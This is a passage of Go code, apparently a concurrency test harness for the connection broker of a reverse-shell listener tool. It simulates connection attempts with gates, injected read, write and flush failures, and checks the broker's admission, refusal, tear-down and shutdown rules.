		w.opPauseM.Lock()
		p := w.opPause
		w.opPauseM.Unlock()
		if p != nil {
			<-p
		}
		w.Log.Add(Event{Kind: "op", Att: -1, S: cl.Line, Plain: cl.Plain, Color: int(cl.Color), S2: cl.Prompt})
	}
}

// StallOperator makes the terminal stop taking lines until the returned
// function is called.
func (w *World) StallOperator() (resume func()) {
	ch := make(chan struct{})
	w.opPauseM.Lock()
	w.opPause = ch
	w.opPauseM.Unlock()
	var once sync.Once
	return func() {
		once.Do(func() {
			w.opPauseM.Lock()
			w.opPause = nil
			w.opPauseM.Unlock()
			close(ch)
		})
	}
}

// SetStress makes every hook point yield/sleep a PRNG-chosen 0–200 µs.
func (w *World) SetStress(rng *rand.Rand) { w.stress.Store(rng) }

// Shutdown cancels Do's context.
func (w *World) Shutdown() {
	w.Log.Add(Event{Kind: "note", Att: -1, S: "shutdown"})
	w.doCancel()
}

// Close tears the world down after a case: ends every attempt, shuts the
// broker down and stops the helper goroutines.  It returns the attempts whose
// Connect call did not return within the bound.
func (w *World) Close() (stuck []*Attempt) {
	w.mu.Lock()
	atts := append([]*Attempt(nil), w.Attempts...)
	w.mu.Unlock()
	for _, a := range atts {
		a.OpenAllGates()
		a.Cancel()
		a.CloseTransport()
	}
	w.doCancel()
	for _, a := range atts {
		select {
		case <-a.Ret:
		case <-time.After(Bound):
			stuck = append(stuck, a)
		}
	}
	wait := Bound
	if doStuckSeen.Load() {
		wait = 300 * time.Millisecond // already established in this process: do not pay the full bound again
	}
	select {
	case <-w.DoDone:
	case <-time.After(wait):
		if len(stuck) == 0 {
			w.DoStuck = true // every Connect has returned, yet Do does not finish
			doStuckSeen.Store(true)
		}
	}
	for i := range w.Lst {
		w.B.RemoveEventListener(w.Lst[i])
		close(w.Lst[i])
	}
	for _, ch := range w.slowLst {
		w.B.RemoveEventListener(ch)
		close(ch)
	}
	close(w.consumerQuit)
	<-w.consumerDone
	return stuck
}

// ---- attempts ---------------------------------------------------------------

// Attempt is one connection attempt (ConnectIn, ConnectOut or ConnectInOut).
type Attempt struct {
	W    *World
	ID   int
	Kind string // in out io
	Key  string
	Addr string

	ctx    context.Context
	cancel context.CancelFunc
	Ret    chan struct{}

	Wr *RecWriter
	Rd *ScriptReader

	gmu   sync.Mutex
	gates map[string]chan struct{} // point+"/"+dir

	// Park, if set before Start, makes the context handed to the broker
	// stop at one of the calls the broker makes on it.
	Park *CtxPark
}

// CtxPark parks the goroutine that makes the Nth call of Method ("Err" or
// "Done") on an attempt's context: the places where the broker consults the
// caller's context are legitimate suspension points (a context's methods
// may take arbitrarily long), so a harness can have something else happen
// exactly then.
type CtxPark struct {
	Method  string
	Nth     int32
	Entered chan struct{} // closed when the call is reached
	proceed chan struct{}
	n       atomic.Int32
	once    sync.Once
}

// NewCtxPark prepares a park at the nth call of method.
func NewCtxPark(method string, nth int) *CtxPark {
	return &CtxPark{Method: method, Nth: int32(nth), Entered: make(chan struct{}), proceed: make(chan struct{})}
}

// Release lets the parked call return (idempotent).
func (p *CtxPark) Release() { p.once.Do(func() { close(p.proceed) }) }

func (p *CtxPark) at(a *Attempt, method string) {
	if method != p.Method || p.n.Add(1) != p.Nth {
		return
	}
	a.W.Log.Add(Event{Kind: "ctx-parked", Att: a.ID, S: method})
	close(p.Entered)
	<-p.proceed
	a.W.Log.Add(Event{Kind: "ctx-passed", Att: a.ID, S: method})
}

type parkCtx struct {
	context.Context
	a *Attempt
}

func (c parkCtx) Err() error            { c.a.Park.at(c.a, "Err"); return c.Context.Err() }
func (c parkCtx) Done() <-chan struct{} { c.a.Park.at(c.a, "Done"); return c.Context.Done() }

// NewAttempt prepares an attempt; Start launches it.
func (w *World) NewAttempt(kind, key string, wk WriterKind) *Attempt {
	w.mu.Lock()
	defer w.mu.Unlock()
	a := &Attempt{W: w, ID: len(w.Attempts), Kind: kind, Key: key, Ret: make(chan struct{}), gates: map[string]chan struct{}{}}
	a.Addr = fmt.Sprintf("addr-%d.test", a.ID)
	ctx := context.WithValue(w.baseCtx, attKey{}, a)
	a.ctx, a.cancel = context.WithCancel(ctx)
	a.Wr = &RecWriter{a: a, Kind: wk, failWrite: -1, failFlush: -1}
	a.Rd = newScriptReader(a)
	w.Attempts = append(w.Attempts, a)
	return a
}

// Gate arms a gate: the attempt's direction dir will park at point until
// Open is called.  Must be called before the point can be reached.
func (a *Attempt) Gate(point, dir string) {
	a.gmu.Lock()
	a.gates[point+"/"+dir] = make(chan struct{})
	a.gmu.Unlock()
}

// Open opens a gate (idempotent).
func (a *Attempt) Open(point, dir string) {
	a.gmu.Lock()
	g := a.gates[point+"/"+dir]
	delete(a.gates, point+"/"+dir)
	a.gmu.Unlock()
	if g != nil {
		close(g)
	}
}

// Gated reports whether a gate is armed.
func (a *Attempt) Gated(point, dir string) bool {
	a.gmu.Lock()
	defer a.gmu.Unlock()
	return a.gates[point+"/"+dir] != nil
}

// OpenAllGates releases everything.
func (a *Attempt) OpenAllGates() {
	a.gmu.Lock()
	gs := a.gates
	a.gates = map[string]chan struct{}{}
	a.gmu.Unlock()
	for _, g := range gs {
		close(g)
	}
	if a.Park != nil {
		a.Park.Release()
	}
}

func (a *Attempt) hook(point, dir, key string) {
	a.W.Log.Add(Event{Kind: "hook", Att: a.ID, Dir: dir, S: point, S2: key})
	if rng := a.W.stress.Load(); rng != nil {
		a.W.stMu.Lock()
		v := rng.IntN(8)
		us := rng.IntN(200)
		a.W.stMu.Unlock()
		switch {
		case v < 3:
		case v < 6:
			runtime.Gosched()
		default:
			time.Sleep(time.Duration(us) * time.Microsecond)
		}
	}
	a.gmu.Lock()
	g := a.gates[point+"/"+dir]
	a.gmu.Unlock()
	if g != nil {
		a.W.Log.Add(Event{Kind: "parked", Att: a.ID, Dir: dir, S: point})
		<-g
		a.W.Log.Add(Event{Kind: "passed", Att: a.ID, Dir: dir, S: point})
	}
}

// Logger returns the attempt's slog.Logger; every record is logged as an
// event tagged with the attempt.
func (a *Attempt) Logger() *slog.Logger {
	if a.W.JSON {
		// both: the JSON handler the program uses (default level, every Write recorded) and the
		// capturing handler the gate executor reads decisions from
		return slog.New(teeHandler{&capHandler{a: a}, slog.NewJSONHandler(jsonSink{a.W}, nil).WithAttrs([]slog.Attr{slog.Int("att", a.ID)})})
	}
	return slog.New(&capHandler{a: a})
}

// teeHandler hands every record to both handlers (each filters by its own level).
type teeHandler struct{ a, b slog.Handler }

func (t teeHandler) Enabled(ctx context.Context, l slog.Level) bool {
	return t.a.Enabled(ctx, l) || t.b.Enabled(ctx, l)
}
func (t teeHandler) Handle(ctx context.Context, r slog.Record) error {
	if t.a.Enabled(ctx, r.Level) {
		t.a.Handle(ctx, r.Clone())
	}
	if t.b.Enabled(ctx, r.Level) {
		t.b.Handle(ctx, r.Clone())
	}
	return nil
}
func (t teeHandler) WithAttrs(as []slog.Attr) slog.Handler {
	return teeHandler{t.a.WithAttrs(as), t.b.WithAttrs(as)}
}
func (t teeHandler) WithGroup(g string) slog.Handler { return teeHandler{t.a.WithGroup(g), t.b.WithGroup(g)} }

// Start launches the Connect call in its own goroutine.
func (a *Attempt) Start() {
	a.W.Log.Add(Event{Kind: "call", Att: a.ID, S: a.Kind, S2: a.Key})
	go func() {
		defer func() {
			a.W.Log.Add(Event{Kind: "ret", Att: a.ID})
			close(a.Ret)
		}()
		sl := a.Logger()
		ctx := a.ctx
		if a.Park != nil {
			ctx = parkCtx{a.ctx, a}
		}
		switch a.Kind {
		case "in":
			a.W.B.ConnectIn(ctx, sl, a.Addr, a.Wr.AsWriter(), a.Key)
		case "out":
			a.W.B.ConnectOut(ctx, sl, a.Addr, a.Rd, a.Key)
		case "io":
			a.W.B.ConnectInOut(ctx, sl, a.Addr, a.Wr.AsWriter(), a.Rd)
		}
	}()
}

// Cancel cancels the attempt's context (the HTTP request context dying).
func (a *Attempt) Cancel() { a.cancel() }

// CloseTransport makes the reader fail from now on, as a closed connection does.
func (a *Attempt) CloseTransport() { a.Rd.closeTransport() }

// Returned reports whether Connect has returned.
func (a *Attempt) Returned() bool {
	select {
	case <-a.Ret:
		return true
	default:
		return false
	}
}

// Dirs lists the broker directions of the attempt.
func (a *Attempt) Dirs() []string {
	switch a.Kind {
	case "in":
		return []string{"input"}
	case "out":
		return []string{"output"}
	}
	return []string{"input", "output"}
}

// ---- slog capture -------------------------------------------------------------

type capHandler struct {
	a     *Attempt
	attrs []slog.Attr
	group string
}

func (h *capHandler) Enabled(context.Context, slog.Level) bool { return true }
func (h *capHandler) Handle(_ context.Context, r slog.Record) error {
	m := map[string]string{}
	for _, at := range h.attrs {
		m[at.Key] = at.Value.String()
	}
	r.Attrs(func(at slog.Attr) bool {
		m[at.Key] = at.Value.String()
		return true
	})
	h.a.W.Log.Add(Event{Kind: "slog", Att: h.a.ID, Dir: m["direction"], S: r.Message, S2: r.Level.String(), Attrs: m})
	return nil
}
func (h *capHandler) WithAttrs(as []slog.Attr) slog.Handler {
	n := *h
	n.attrs = append(append([]slog.Attr{}, h.attrs...), as...)
	return &n
}
func (h *capHandler) WithGroup(g string) slog.Handler { n := *h; n.group = g; return &n }

// ---- writers ----------------------------------------------------------------------

// WriterKind selects which optional interfaces the transport writer offers.
type WriterKind int

const (
	WPlain WriterKind = iota
	WFlusher
	WFlushError
	WBoth
)

func (k WriterKind) String() string {
	return [...]string{"plain", "http.Flusher", "FlushError", "Flusher+FlushError"}[k]
}

// ErrInjected is the error harness writers/readers return when told to fail.
var ErrInjected = errors.New("injected transport failure")

// RecWriter records what the broker writes and flushes.
type RecWriter struct {
	a    *Attempt
	Kind WriterKind

	mu        sync.Mutex
	buf       []byte
	writes    int
	flushes   int
	failWrite int // fail the n-th Write from now (0 = next); -1 never
	failFlush int
	short     bool
	failed    bool
}

// FailWrite makes the n-th Write from now fail (0 = the next one).
func (w *RecWriter) FailWrite(n int, short bool) {
	w.mu.Lock()
	w.failWrite, w.short = n, short
	w.mu.Unlock()
}

// FailFlush makes the n-th flush from now fail; only effective for kinds
// with FlushError.
func (w *RecWriter) FailFlush(n int) {
	w.mu.Lock()
	w.failFlush = n
	w.mu.Unlock()
}

// Bytes returns what has been written so far.
func (w *RecWriter) Bytes() []byte {
	w.mu.Lock()
	defer w.mu.Unlock()
	return append([]byte(nil), w.buf...)
}

func (w *RecWriter) write(p []byte) (int, error) {
	w.mu.Lock()
	if w.failWrite == 0 {
		w.failWrite = -1
		w.failed = true
		n := 0
		if w.short && len(p) > 1 {
			n = len(p) / 2
			w.buf = append(w.buf, p[:n]...)
		}
		w.mu.Unlock()
		w.a.W.Log.Add(Event{Kind: "werr", Att: w.a.ID, S: string(p), N: n})
		return n, ErrInjected
	}
	if w.failWrite > 0 {
		w.failWrite--
	}
	w.buf = append(w.buf, p...)
	w.writes++
	w.mu.Unlock()
	w.a.W.Log.Add(Event{Kind: "w", Att: w.a.ID, S: string(p), N: len(p)})
	return len(p), nil
}

func (w *RecWriter) flush() error {
	w.mu.Lock()
	if w.failFlush == 0 && (w.Kind == WFlushError || w.Kind == WBoth) {
		w.failFlush = -1
		w.failed = true
		w.mu.Unlock()
		w.a.W.Log.Add(Event{Kind: "ferr", Att: w.a.ID})
		return ErrInjected
	}
	if w.failFlush > 0 {
		w.failFlush--
	}
	w.flushes++
	w.mu.Unlock()
	w.a.W.Log.Add(Event{Kind: "f", Att: w.a.ID})
	return nil
}

type wPlain struct{ w *RecWriter }

func (x wPlain) Write(p []byte) (int, error) { return x.w.write(p) }

type wFlusher struct{ w *RecWriter }

func (x wFlusher) Write(p []byte) (int, error) { return x.w.write(p) }
func (x wFlusher) Flush()                      { x.w.flush() }

type wFlushErr struct{ w *RecWriter }

func (x wFlushErr) Write(p []byte) (int, error) { return x.w.write(p) }
func (x wFlushErr) FlushError() error           { return x.w.flush() }

type wBoth struct{ w *RecWriter }

func (x wBoth) Write(p []byte) (int, error) { return x.w.write(p) }
func (x wBoth) Flush()                      { x.w.flush() }
func (x wBoth) FlushError() error           { return x.w.flush() }

// AsWriter returns an io.Writer exposing exactly the interfaces of the kind.
func (w *RecWriter) AsWriter() io.Writer {
	switch w.Kind {
	case WFlusher:
		return wFlusher{w}
	case WFlushError:
		return wFlushErr{w}
	case WBoth:
		return wBoth{w}
	}
	return wPlain{w}
}

// ---- readers ---------------------------------------------------------------------------

// ReadItem is what one Read call returns.
type ReadItem struct {
	Data  []byte
	Err   error
	Delay time.Duration
}

// ScriptReader is the transport reader: each Read returns the next queued
// item, blocking while the queue is empty.
type ScriptReader struct {
	a      *Attempt
	mu     sync.Mutex
	cond   *sync.Cond
	q      []ReadItem
	closed bool
	Reads  int
	pend   []byte // rest of an item larger than the caller's buffer
	pendE  error
}

func newScriptReader(a *Attempt) *ScriptReader {
	r := &ScriptReader{a: a}
	r.cond = sync.NewCond(&r.mu)
	return r
}

// Push queues items.
func (r *ScriptReader) Push(items ...ReadItem) {
	r.mu.Lock()
	r.q = append(r.q, items...)
	r.mu.Unlock()
	r.cond.Broadcast()
}

// PushData queues one data chunk.
func (r *ScriptReader) PushData(s string) { r.Push(ReadItem{Data: []byte(s)}) }

func (r *ScriptReader) closeTransport() {
	r.mu.Lock()
	r.closed = true
	r.mu.Unlock()
	r.cond.Broadcast()
}

// ReadCalls returns the number of Read calls that have returned.
func (r *ScriptReader) ReadCalls() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.Reads
}

func (r *ScriptReader) Read(p []byte) (int, error) {
	r.mu.Lock()
	for len(r.q) == 0 && len(r.pend) == 0 && !r.closed {
		r.cond.Wait()
	}
	var (
		n   int
		err error
	)
	switch {
	case len(r.pend) > 0:
		n = copy(p, r.pend)
		r.pend = r.pend[n:]
		if len(r.pend) == 0 {
			err = r.pendE
			r.pendE = nil
		}
	case len(r.q) > 0:
		it := r.q[0]
		r.q = r.q[1:]
		if it.Delay > 0 {
			r.mu.Unlock()
			time.Sleep(it.Delay)
			r.mu.Lock()
		}
		n = copy(p, it.Data)
		if n < len(it.Data) {
			r.pend = it.Data[n:]
			r.pendE = it.Err
		} else {
			err = it.Err
		}
	default:
		err = io.ErrClosedPipe
	}
	r.Reads++
	r.mu.Unlock()
	es := ""
	if err != nil {
		es = err.Error()
	}
	r.a.W.Log.Add(Event{Kind: "r", Att: r.a.ID, S: string(p[:n]), S2: es, N: n})
	return n, err
}

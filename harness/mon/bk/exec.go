package bk

import (
	"fmt"
	"io"
	"runtime"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/lib/opshell"
)

// Decision messages the broker logs through the slog.Logger it is handed.
const (
	MsgNew           = "New connection"
	MsgKeyMissing    = "Key missing"
	MsgDisconnecting = "Previous shell disconnecting"
	MsgAlready       = "Connection already established"
	MsgIncorrectKey  = "Incorrect key"
	MsgDisconnected  = "Disconnected"
	MsgShellIO       = "Shell I/O"
)

// Stream states.
const (
	StUndecided = iota
	StLive          // admitted, proxy running
	StEnded         // proxy returned, parked before the release section (still attached in the broker's books)
	StReleased      // release section done
	StRefused       // refused with a reason
	StSilent        // returned without a decision record (shutdown)
)

// Stream is one direction of one attempt.
type Stream struct {
	A       *Attempt
	Dir     string // input | output
	State   int
	Reason  string
	Held    bool // the script keeps it parked at release
	Gen     int  // generation it belonged to (when admitted)
	DecSeq  int  // log sequence of the decision
	token   string
	Offered []string // tokens of chunks offered on the reader side
}

func (s *Stream) String() string {
	return fmt.Sprintf("a%d/%s(%s,key=%q)", s.A.ID, s.Dir, s.A.Kind, shortKey(s.A.Key))
}

func shortKey(k string) string {
	if len(k) > 20 {
		return k[:20] + "…"
	}
	return k
}

// Model is the harness's view of the broker, updated from observed
// decisions and observed completions of release sections.
type Model struct {
	Slot    map[string]*Stream
	Tearing bool
	Down    int // 0 up, 1 shutdown requested while streams attached (either-way window), 2 Do has returned
	Gen     int
}

// Exec runs operations one at a time against a World, waiting after each
// for the broker to reach the expected state, and records violations.
type Exec struct {
	W       *World
	M       Model
	Streams []*Stream
	Trace   []string // executed operations, for witnesses
	Viol    func(key, what string)
	probeN  int

	// statistics
	Decisions   map[string]int
	NMustRefuse int
	LenientRef  int
	Pending      []*Attempt // prepared /io attempts whose halves are still parked at admission
	AfterTrigger func() // called once right after the next End has triggered its endings
	NoAdmissionVerdicts bool // set by properties other than C01: do not judge must-refuse
	ProbesLive  int
	ProbesIdle  int
	Stalled     bool // a bounded wait fired: the rest of the history cannot be trusted
	GenClosed   []GenInfo
	curGen      *GenInfo
}

// GenInfo delimits one shell generation in the log.
type GenInfo struct {
	N        int
	FromSeq  int
	ToSeq    int
	Streams  []*Stream
	Bidir    bool
	Full     bool // became fully attached
}

// NewExec wraps a world.
func NewExec(w *World, viol func(key, what string)) *Exec {
	return &Exec{W: w, M: Model{Slot: map[string]*Stream{}}, Viol: viol, Decisions: map[string]int{}}
}

func other(dir string) string {
	if dir == "input" {
		return "output"
	}
	return "input"
}

func (x *Exec) tr(format string, a ...any) { x.Trace = append(x.Trace, fmt.Sprintf(format, a...)) }

func (x *Exec) stream(a *Attempt, dir string) *Stream {
	for _, s := range x.Streams {
		if s.A == a && s.Dir == dir {
			return s
		}
	}
	s := &Stream{A: a, Dir: dir, token: fmt.Sprintf("TOK<%d.%s>", a.ID, dir[:1])}
	x.Streams = append(x.Streams, s)
	return s
}

// StreamsOf returns the streams of an attempt (creating them).
func (x *Exec) StreamsOf(a *Attempt) []*Stream {
	var out []*Stream
	for _, d := range a.Dirs() {
		out = append(out, x.stream(a, d))
	}
	return out
}

// Prepare creates an attempt with admit gates on all its directions and
// starts it; the directions park at the admit point.
func (x *Exec) Prepare(kind, key string, wk WriterKind) *Attempt {
	a := x.W.NewAttempt(kind, key, wk)
	from := x.W.Log.Len()
	for _, d := range a.Dirs() {
		a.Gate("admit", d)
		a.Gate("release", d) // every release section is driven by the executor
		x.stream(a, d)
	}
	a.Start()
	for _, d := range a.Dirs() {
		if _, ok := x.W.Log.Wait(from, Bound, func(e Event) bool { return e.Kind == "parked" && e.Att == a.ID && e.Dir == d && e.S == "admit" }); !ok {
			x.stall("attempt %d/%s never reached the admission point", a.ID, d)
		}
	}
	return a
}

func (x *Exec) stall(format string, a ...any) {
	x.Stalled = true
	x.tr("STALL: "+format, a...)
}

// MustRefuse says whether the property demands refusal of (a,dir) in the
// current model state, and why.
func (x *Exec) MustRefuse(a *Attempt, dir string) (bool, string) {
	switch {
	case x.M.Down == 2:
		return true, "shut-down"
	case a.Key == "" && a.Kind != "io":
		return true, "missing-id"
	case x.M.Tearing:
		return true, "tearing-down"
	case x.M.Slot[dir] != nil:
		return true, "duplicate-direction"
	}
	if o := x.M.Slot[other(dir)]; o != nil {
		switch {
		case a.Kind != "io" && o.A.Kind != "io" && o.A.Key != a.Key:
			return true, "different-id"
		case a.Kind != "io" && o.A.Kind == "io":
			return true, "unidirectional-onto-bidirectional"
		case a.Kind == "io" && o.A.Kind != "io":
			return true, "bidirectional-onto-unidirectional"
		}
	}
	return false, ""
}

// Admit opens the admit gate of (a,dir), waits for the decision and checks
// it against the must-refuse rules.  It returns the stream.
func (x *Exec) Admit(a *Attempt, dir string) *Stream {
	s := x.stream(a, dir)
	must, why := x.MustRefuse(a, dir)
	from := x.W.Log.Len()
	a.Open("admit", dir)
	ev, ok := x.W.Log.Wait(from, Bound, func(e Event) bool {
		if e.Att != a.ID {
			return false
		}
		if e.Kind == "slog" && (e.Dir == dir || (e.Dir == "" && a.Kind != "io")) {
			switch e.S {
			case MsgNew, MsgKeyMissing, MsgDisconnecting, MsgAlready, MsgIncorrectKey:
				return true
			}
		}
		return e.Kind == "hook" && e.Dir == dir && e.S == "done"
	})
	if !ok {
		x.stall("no decision for %s", s)
		return s
	}
	s.DecSeq = ev.Seq
	switch {
	case ev.Kind == "hook":
		s.State = StSilent
		s.Reason = "silent"
	case ev.S == MsgNew:
		s.State = StLive
		s.Reason = MsgNew
	default:
		s.State = StRefused
		s.Reason = ev.S
	}
	x.Decisions[s.Reason]++
	x.tr("admit %s -> %s (model: must-refuse=%v %s)", s, s.Reason, must, why)
	if must {
		x.NMustRefuse++
	}
	doomed := x.doomed(a, dir)
	if s.State == StLive && doomed != nil && !x.NoAdmissionVerdicts {
		x.Viol("refused-bidirectional-attempt-keeps-other-half", fmt.Sprintf("%s was attached although the other half of the same /io request had been refused (%s): the refused attempt was not ended and can now be sent operator input", s, doomed.Reason))
	}
	if s.State == StLive {
		if must && !(x.M.Down == 1) && !x.NoAdmissionVerdicts {
			x.Viol("admitted-"+why, fmt.Sprintf("%s was admitted although the property demands refusal (%s); model: in=%v out=%v tearing=%v down=%d", s, why, x.M.Slot["input"], x.M.Slot["output"], x.M.Tearing, x.M.Down))
		}
		if x.M.Slot["input"] == nil && x.M.Slot["output"] == nil {
			x.M.Gen++
			x.curGen = &GenInfo{N: x.M.Gen, FromSeq: from, Bidir: a.Kind == "io"}
		}
		s.Gen = x.M.Gen
		x.M.Slot[dir] = s
		if x.curGen != nil {
			x.curGen.Streams = append(x.curGen.Streams, s)
			if x.M.Slot["input"] != nil && x.M.Slot["output"] != nil {
				x.curGen.Full = true
			}
		}
		if a.ctx.Err() != nil {
			// its request context is already dead (the harness cancelled the attempt):
			// it must end by itself right away
			if x.waitParkedRelease(s, from) {
				s.State = StEnded
				if !s.Held {
					x.release(s)
				}
			} else {
				x.stall("%s was attached with a cancelled context and did not end", s)
			}
		}
		return s
	}
	if !must {
		x.LenientRef++
	}
	if s.State == StRefused {
		// the operator must be told: a red notice naming this attempt's address
		if _, ok := x.W.Log.Wait(from, Bound, func(e Event) bool {
			return e.Kind == "op" && !e.Plain && e.Color == int(opshell.ColorRed) && strings.Contains(e.S, a.Addr)
		}); !ok {
			x.Viol("refusal-not-announced", fmt.Sprintf("%s was refused (%s) but no red operator notice names %s", s, s.Reason, a.Addr))
		}
	}
	if s.State == StSilent && x.M.Down == 0 && doomed == nil && !x.orphan(a, dir) && a.ctx.Err() == nil {
		x.Viol("silent-refusal-while-up", fmt.Sprintf("%s returned without any decision record although the broker is not shutting down", s))
	}
	if sib := x.liveSibling(a, dir); sib != nil && (s.State == StRefused || s.State == StSilent) {
		// the attempt as a whole was refused: its attached half must be ended at once
		if x.waitParkedRelease(sib, from) {
			sib.State = StEnded
			if !sib.Held {
				x.release(sib)
			}
		} else if !x.NoAdmissionVerdicts {
			x.Viol("refused-bidirectional-attempt-keeps-other-half", fmt.Sprintf("%s was refused (%s) but the other half %s of the same /io request stayed attached", s, s.Reason, sib))
		}
	}
	// a refused direction must finish: wait for its done hook
	if ev.Kind != "hook" {
		if _, ok := x.W.Log.Wait(ev.Seq, Bound, func(e Event) bool { return e.Kind == "hook" && e.Att == a.ID && e.Dir == dir && e.S == "done" }); !ok {
			x.Viol("refused-attempt-not-ended", fmt.Sprintf("%s was refused (%s) but its connect call did not finish", s, s.Reason))
			x.Stalled = true
		}
	}
	return s
}

// doomed returns the refused sibling half of an /io attempt, if any.
func (x *Exec) doomed(a *Attempt, dir string) *Stream {
	if a.Kind != "io" {
		return nil
	}
	sib := x.stream(a, other(dir))
	if sib.State == StRefused || sib.State == StSilent {
		return sib
	}
	return nil
}

// orphan: the sibling half of an /io attempt has already ended.
func (x *Exec) orphan(a *Attempt, dir string) bool {
	if a.Kind != "io" {
		return false
	}
	sib := x.stream(a, other(dir))
	return sib.State == StEnded || sib.State == StReleased
}

// liveSibling returns the attached sibling half of an /io attempt, if any.
func (x *Exec) liveSibling(a *Attempt, dir string) *Stream {
	if a.Kind != "io" {
		return nil
	}
	sib := x.stream(a, other(dir))
	if sib.State == StLive && x.M.Slot[sib.Dir] == sib {
		return sib
	}
	return nil
}

// Connect is Prepare followed by Admit of each direction (input first unless
// outFirst).
func (x *Exec) Connect(kind, key string, wk WriterKind, outFirst bool) *Attempt {
	a := x.Prepare(kind, key, wk)
	dirs := a.Dirs()
	if outFirst && len(dirs) == 2 {
		dirs[0], dirs[1] = dirs[1], dirs[0]
	}
	for _, d := range dirs {
		if x.Stalled {
			break
		}
		x.Admit(a, d)
	}
	x.AwaitReturnIfAllRefused(a)
	return a
}

// AwaitReturnIfAllRefused checks that an attempt none of whose directions
// was admitted has returned ("ended at once").
func (x *Exec) AwaitReturnIfAllRefused(a *Attempt) {
	for _, s := range x.StreamsOf(a) {
		if s.State == StLive || s.State == StEnded || s.State == StUndecided {
			return
		}
	}
	select {
	case <-a.Ret:
	case <-time.After(Bound):
		x.Viol("refused-attempt-not-ended", fmt.Sprintf("attempt %d (%s) was refused but Connect did not return", a.ID, a.Kind))
		x.Stalled = true
	}
}

// Hold keeps s parked before its release section once it ends, until Unhold.
func (x *Exec) Hold(s *Stream) {
	if s.State != StLive || s.Held {
		return
	}
	s.Held = true
	x.tr("hold %s", s)
}

func (x *Exec) live() []*Stream {
	var out []*Stream
	for _, d := range []string{"input", "output"} {
		if s := x.M.Slot[d]; s != nil {
			out = append(out, s)
		}
	}
	return out
}

func (x *Exec) waitParkedRelease(s *Stream, from int) bool {
	_, ok := x.W.Log.Wait(from, Bound, func(e Event) bool {
		return e.Kind == "parked" && e.Att == s.A.ID && e.Dir == s.Dir && e.S == "release"
	})
	return ok
}

// release opens the release gate of an ended stream and follows the
// cascade: the peer, if attached, is cancelled by the broker and arrives at
// its own release point; it is released too unless held.
func (x *Exec) release(s *Stream) {
	from := x.W.Log.Len()
	s.Held = false
	s.A.Open("release", s.Dir)
	if _, ok := x.W.Log.Wait(from, Bound, func(e Event) bool {
		return e.Kind == "hook" && e.Att == s.A.ID && e.Dir == s.Dir && e.S == "done"
	}); !ok {
		x.stall("release of %s did not finish", s)
		return
	}
	s.State = StReleased
	x.M.Slot[s.Dir] = nil
	peer := x.M.Slot[other(s.Dir)]
	x.tr("released %s (peer %v)", s, peer)
	if peer == nil {
		x.M.Tearing = false
		x.closeGen()
		return
	}
	x.M.Tearing = true
	if peer.State == StLive {
		// the broker cancels the peer; it must arrive at its release point without further traffic
		if !x.waitParkedRelease(peer, 0) {
			x.Viol("peer-not-ended", fmt.Sprintf("after %s was released, the other direction %s did not end", s, peer))
			x.Stalled = true
			return
		}
		peer.State = StEnded
	}
	if !peer.Held {
		x.release(peer)
	}
}

func (x *Exec) closeGen() {
	if x.curGen != nil {
		x.curGen.ToSeq = x.W.Log.Len()
		x.GenClosed = append(x.GenClosed, *x.curGen)
		x.curGen = nil
	}
	if x.M.Down == 1 {
		select {
		case <-x.W.DoDone:
			x.M.Down = 2
		case <-time.After(Bound):
			x.Viol("shutdown-does-not-finish", "Do did not return although every attached stream has ended")
			x.Stalled = true
		}
	}
}

// End makes stream s end in the given way, then drives the tear-down.
// how: cancel | eof | err | dataerr | werr | ferr | closeich.  If alsoPeer is
// set, the peer is ended by its own cause at the same time and `first`
// decides which release section runs first.
func (x *Exec) End(s *Stream, how string, alsoPeer string, peerFirst bool) {
	if s.State != StLive {
		return
	}
	from := x.W.Log.Len()
	x.tr("end %s how=%s alsoPeer=%q peerFirst=%v", s, how, alsoPeer, peerFirst)
	x.trigger(s, how)
	peer := x.M.Slot[other(s.Dir)]
	if how == "cancel" && s.A.Kind == "io" && peer != nil && peer.A == s.A && peer.State == StLive {
		// one context: both halves end
		alsoPeer = "same-context"
	} else if alsoPeer != "" && peer != nil && peer.State == StLive {
		x.trigger(peer, alsoPeer)
	} else {
		alsoPeer = ""
	}
	if f := x.AfterTrigger; f != nil {
		x.AfterTrigger = nil
		f()
	}
	if !x.waitParkedRelease(s, from) {
		x.Viol("stream-does-not-end", fmt.Sprintf("%s did not end after %s", s, how))
		x.Stalled = true
		return
	}
	s.State = StEnded
	if alsoPeer != "" {
		if !x.waitParkedRelease(peer, from) {
			x.Viol("stream-does-not-end", fmt.Sprintf("%s did not end after %s", peer, alsoPeer))
			x.Stalled = true
			return
		}
		peer.State = StEnded
		if peerFirst && !peer.Held {
			x.release(peer)
			return
		}
	}
	if !s.Held {
		x.release(s)
	}
}

func (x *Exec) trigger(s *Stream, how string) {
	if how == "ferr" && !(s.A.Wr.Kind == WFlushError || s.A.Wr.Kind == WBoth) {
		how = "werr" // this writer has no failing flush
	}
	switch how {
	case "cancel":
		s.A.Cancel()
	case "eof":
		s.A.Rd.Push(ReadItem{Err: io.EOF})
	case "err":
		s.A.Rd.Push(ReadItem{Err: ErrInjected})
	case "dataerr":
		s.A.Rd.Push(ReadItem{Data: []byte(s.token + "last;"), Err: io.EOF})
		s.Offered = append(s.Offered, s.token+"last;")
	case "werr":
		s.A.Wr.FailWrite(0, false)
		x.W.Ich <- fmt.Sprintf("LINE-LOST-%d", s.A.ID)
	case "ferr":
		s.A.Wr.FailFlush(0)
		x.W.Ich <- fmt.Sprintf("LINE-LOST-%d", s.A.ID)
	case "closeich":
		close(x.W.Ich)
	}
}

// EndHow lists the endings applicable to a stream.
func EndHow(s *Stream) []string {
	if s.Dir == "input" {
		h := []string{"cancel", "werr"}
		if s.A.Wr.Kind == WFlushError || s.A.Wr.Kind == WBoth {
			h = append(h, "ferr")
		}
		return h
	}
	return []string{"cancel", "eof", "err", "dataerr"}
}

// Unhold releases a held, ended stream.
func (x *Exec) Unhold(s *Stream) {
	if !s.Held {
		return
	}
	x.tr("unhold %s", s)
	if s.State == StEnded {
		x.release(s)
	} else {
		// not ended yet: just drop the hold
		s.Held = false
	}
}

// Shutdown cancels Do's context.
func (x *Exec) Shutdown() {
	if x.M.Down != 0 {
		return
	}
	x.tr("shutdown")
	x.W.Shutdown()
	if len(x.live()) == 0 {
		select {
		case <-x.W.DoDone:
			x.M.Down = 2
		case <-time.After(Bound):
			x.Viol("shutdown-does-not-finish", "Do did not return although no stream is attached")
			x.Stalled = true
		}
		return
	}
	x.M.Down = 1
	// give Do's goroutine the chance to take the lock; either outcome stays acceptable
	for i := 0; i < 50; i++ {
		runtime.Gosched()
	}
